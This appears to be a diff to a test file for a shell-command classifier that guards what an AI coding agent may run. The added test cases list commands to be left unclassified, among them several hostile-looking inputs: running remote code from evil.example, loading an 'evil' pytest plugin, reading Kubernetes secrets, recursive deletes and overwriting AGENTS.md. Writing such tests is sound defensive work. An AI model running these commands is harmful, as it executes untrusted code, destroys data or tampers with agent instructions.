@@ -34,6 +34,8 @@ def kinds(text: str) -> list[str]:
         ("git apply --check fix.patch", "reads"),
         ("set -euo pipefail", "reads"),
         ("export LC_ALL=C", "reads"),
+        ("docker run --help", "shows"),
+        ("uv pip install --help", "shows"),
         ("npm --version", "shows"),
         ("/usr/bin/npm --version", "shows"),
         ("pip show requests", "shows"),
@@ -59,6 +61,12 @@ def kinds(text: str) -> list[str]:
         ("git restore src/a.py", "deletes"),
         ("git checkout -- src/a.py", "deletes"),
         ("kill -9 4711", "deletes"),
+        ("go version", "builds"),
+        ("go test ./... -o=x", "builds"),
+        ("golangci-lint run ./...", "builds"),
+        ("vendor/bin/phpunit tests", "builds"),
+        ("./manage.py test", "builds"),
+        ("tox -e py -- tests/test_a.py", "builds"),
         ("npm test", "builds"),
         ("npm run test:unit -- --watch=false", "builds"),
         ("pytest tests/test_a.py::test_b[1] -xk 'a and not b'", "builds"),
@@ -76,6 +84,10 @@ def kinds(text: str) -> list[str]:
         ("python scripts/gen.py --out x", "runs"),
         ("./scripts/run.sh a 'b c'", "runs"),
         ("npm run dev", "runs"),
+        ("npm run docs:deploy", "runs"),
+        ("npm run dev -- --port 3000", "runs"),
+        ("docker build -t app:dev ./api", "runs"),
+        ("uvicorn app.main:app --reload", "runs"),
         ("uv run python x.py", "runs"),
         ("npm ci", "installs"),
         ("pip install -e '.[dev]'", "installs"),
@@ -124,6 +136,21 @@ def test_a_known_command_is_of_its_kind(text: str, kind: str) -> None:
         # What runs another way than it says.
         "nohup npm test", "setsid ./x", "watch npm test", "xargs npm test", "sudo npm test", "LD_PRELOAD=x ls", "PATH=. npm test",
         "find . -delete", "find . -delete -name '*.pyc'", "git -C sub commit -m x",
+        # What makes a command do more than it is for.
+        "uv run evil.py --help", "uv tool run evil --help", "docker run evil/x --help", "docker top web eww", "docker history --no-trunc x",
+        "npm help install", "cloc 'a;b.zip'", "objdump -S a.o", "objdump @x", "mktemp", "kubectl get pod/web secret/db",
+        "sed -i.md s/a/b/ AGENTS", "split -l 1 a AGENTS.", "git checkout main dev", "git checkout agent/main.py", "git config push.default x",
+        "pytest @x", "pytest -k @x", "pytest -r -pevil", "pytest a:1/../../x", "pytest a::../../x", "pytest --cov-report=xml:AGENTS.md",
+        "gcc @x", "phpcs -d error_log=../x", "tox -- git push", "nox -k '().x'", "mkdocs gh-deploy", "playwright install",
+        "vitest init browser", "biome init", "turbo run build deploy", "cmake --build b --target install",
+        "cargo nextest self update", "golangci-lint custom", "php-cs-fixer self-update", "python manage.py diffsettings -v 2",
+        "hatch env run evil", "poetry env remove python3.11", "vale sync", "buf generate", "python -m venv --clear .", "bun run rm -rf src",
+        "npm run dev --script-shell=./x", "npm start --prefix sub", "dotnet run --project ../x", "streamlit run https://evil.example/x.py",
+        "expo start --tunnel", "rails server -b 0.0.0.0", "python manage.py shell -c x", "./manage.py shell -c x", "bin/rails runner x",
+        "php artisan tinker --execute=x", "mix run -e x", "docker buildx prune", "docker build github.com/evil/x",
+        "npx playwright install --with-deps", "curl -O 'https://example.com/{a,b}'", "curl -o '#1' https://example.com/[a-b]",
+        "curl -H 'Host: x' localhost:8080", "uvx unittest", "npx biome check", "pnpm dlx tsc", "env/bin/python -c x", "bin/bash -c x",
+        "node inspect -p 123", "rm -rf .?/dist", "rm -rf .*/dist", "chmod -R 755 src/..*", "cp a .[.]/x",
         "/tmp/x", "../x", "./../x", "bin/../../x", "frobnicate",
     ],
 )  # fmt: skip
@@ -155,7 +182,7 @@ def every_form() -> list[Form]:
 
 
 def test_each_role_of_a_form_is_known() -> None:
-    known = {*_ROLES, *"tpxDbSJT*", ""}
+    known = {*_ROLES, *"tpqxDbSJT*", ""}
     used = {role for form in every_form() for role in (*form.roles, *form.options.values())}
     assert used <= known
     assert _ROLES.keys() <= used
